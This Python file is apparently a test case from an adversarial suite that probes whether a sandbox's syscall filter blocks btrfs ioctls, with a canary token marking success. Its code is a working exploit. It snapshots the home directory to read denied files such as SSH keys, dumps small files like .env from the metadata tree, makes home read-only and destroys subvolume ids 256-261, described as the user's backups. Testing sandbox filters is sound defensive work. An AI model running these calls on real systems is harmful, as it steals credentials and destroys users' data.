# technique: btrfs ioctls the filter lets through on any descriptor: snapshot the home subvolume into the project (every denied file then has a readable twin), read file bodies out of the metadata tree (TREE_SEARCH: inline extents hold small files such as keys and .env), make a subvolume read-only, destroy a subvolume by id (the user's backups), set the default subvolume; on ext4 they answer ENOTTY, which still shows the filter passed them (EPERM is the filter's refusal)
# needs: token
# Harmless on a filesystem that is not btrfs (ENOTTY). On btrfs the calls
# are real: test/adversarial/manual/btrfs-world.sh runs this case in a
# world on a loop-mounted btrfs image and shows their effect.
import fcntl, os, struct, sys
env = dict(l.strip().split("=", 1) for l in open(".adv/world.env") if "=" in l) if os.path.exists(".adv/world.env") else {}
token = "CANARY-REACHED-" + env.get("TAG", "none")
home = os.environ["HOME"]
proj = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
BTRFS_SUBVOL_SPEC_BY_ID = 1 << 4
BTRFS_SUBVOL_RDONLY = 1 << 1
reached = []

def call(name, fd, cmd, arg):
    try:
        buf = bytearray(arg)
        r = fcntl.ioctl(fd, cmd, buf) if len(buf) > 8 else fcntl.ioctl(fd, cmd, bytes(buf))
        r = buf if len(buf) > 8 else r
        print(name, "accepted")
        reached.append(name)
        return r
    except OSError as e:
        print(name, e.strerror)
        if e.errno != 1:
            reached.append(name)
        return None

def vol_args_v2(fd=0, flags=0, name=b"", subvolid=None):
    head = struct.pack("qQQ", fd, 0, flags) + bytes(32)
    tail = struct.pack("Q", subvolid) if subvolid is not None else name
    return head + tail + bytes(4096 - len(head) - len(tail))

try:
    src = os.open(home, os.O_RDONLY | os.O_DIRECTORY)
    print("opened the home directory read-only")
except OSError as e:
    print("open home:", e.strerror)
    src = proj
# 1. Snapshot the home subvolume into the project.
call("BTRFS_IOC_SNAP_CREATE_V2 (home into the project)", proj, 0x50009417, vol_args_v2(fd=src, name=b"home-snap"))
call("BTRFS_IOC_SNAP_CREATE (v1)", proj, 0x50009401, struct.pack("q", src) + b"home-snap1" + bytes(4078))
for f in ("home-snap/.ssh/id_rsa", "home-snap1/.ssh/id_rsa"):
    try:
        print(f, open(f).read().strip())
    except OSError as e:
        print(f, e.strerror)
# 2. File bodies out of the metadata tree: inline EXTENT_DATA items (type 108).
key = struct.pack("7Q4I4Q", 0, 0, 2**64 - 1, 0, 2**64 - 1, 0, 2**64 - 1, 108, 108, 4096, 0, 0, 0, 0, 0)
r = call("BTRFS_IOC_TREE_SEARCH (inline extents of the subvolume)", proj, 0xd0009411, key + bytes(4096 - len(key)))
if r:
    n = struct.unpack_from("I", r, 7 * 8 + 8)[0]
    off = 104
    for _ in range(n):
        _, obj, _, typ, ln = struct.unpack_from("3Q2I", r, off)
        item = bytes(r[off + 32: off + 32 + ln])
        off += 32 + ln
        if typ == 108 and len(item) > 21 and item[20] == 0:
            print("inode", obj, "inline:", item[21:].decode(errors="replace").strip()[:120])
# 3. A subvolume made read-only through a read-only descriptor.
call("BTRFS_IOC_SUBVOL_SETFLAGS (home read-only)", src, 0x4008941a, struct.pack("Q", BTRFS_SUBVOL_RDONLY))
# 4. A subvolume destroyed by id from any descriptor (ids 256 up: the user's snapshots).
for sid in range(256, 262):
    call("BTRFS_IOC_SNAP_DESTROY_V2 (subvolume id %d)" % sid, proj, 0x5000943f, vol_args_v2(flags=BTRFS_SUBVOL_SPEC_BY_ID, subvolid=sid))
call("BTRFS_IOC_SNAP_DESTROY (by name, in the project)", proj, 0x5000940f, struct.pack("q", 0) + b"no-such-subvol" + bytes(4074))
call("BTRFS_IOC_SUBVOL_CREATE (in the project)", proj, 0x5000940e, struct.pack("q", 0) + b"new-subvol" + bytes(4078))
# 5. The default subvolume (what the next mount shows) is already refused; id 0 is invalid.
call("BTRFS_IOC_DEFAULT_SUBVOL (id 0)", proj, 0x40089413, struct.pack("Q", 0))
print("reached:", ", ".join(reached), token if reached else "")
